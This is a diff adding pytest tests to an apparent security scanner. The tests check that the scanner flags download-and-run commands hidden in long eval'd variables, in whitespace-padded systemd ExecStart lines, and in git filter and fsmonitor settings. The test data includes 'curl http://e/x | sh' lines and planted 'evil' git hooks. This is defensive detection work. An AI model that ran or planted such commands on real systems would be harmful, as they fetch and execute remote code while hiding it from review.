@@ -579,3 +579,35 @@ def test_second_encoded_command_of_a_line_is_decoded():
 def test_encoded_commands_that_nest_too_deep_raise_a_limit_error():
     with pytest.raises(LimitReachedError):
         list(collect_windows_mentions(encode_for_powershell("echo harmless"), depth=30))
+
+
+@check_each(
+    "text",
+    [
+        "x='{filler}; curl http://e/x | sh'\neval \"$x\"\n",
+        "x='{filler}; curl http://e/x | sh'\necho \"$x\" | sh\n",
+        "x=(a '{filler}; curl http://e/x | sh')\neval \"${{x[@]}}\"\n",
+    ],
+)
+def test_end_of_a_long_variable_that_is_executed_is_analysed_or_raises_a_limit_error(text):
+    uses = set()
+    try:
+        uses |= {mention.use for mention in collect_script_mentions(text.format(filler="a" * 5000))}
+    except LimitReachedError:
+        uses.add("limit")
+    assert uses & {"download-and-run", "limit"}
+
+
+def test_long_variable_that_is_not_executed_raises_no_limit_error():
+    assert not list(collect_script_mentions(f'usage=\'{"a " * 5000}\'\necho "$usage"\ntrue "$usage"\n'))
+
+
+def test_command_at_the_end_of_a_long_line_of_settings_is_reported(read_bytes):
+    spaces = " " * 6000
+    unit = f"[Service]\nExecStart=/bin/sh -c 'echo{spaces}; curl http://e/x | sh'\n".encode()
+    (outline,) = read_bytes(unit, "a.service").of(Outline)
+    assert "download-and-run" in {mention.use for mention in outline.mentions}
+    (outline,) = read_bytes(f"*.bin{spaces}filter=evil\n".encode(), ".gitattributes").of(Outline)
+    assert [mention.name for mention in outline.mentions] == ["filter=evil"]
+    (outline,) = read_bytes(f"[core]{spaces}fsmonitor=evil\n".encode(), ".gitconfig").of(Outline)
+    assert "core.fsmonitor" in {mention.name for mention in outline.mentions}
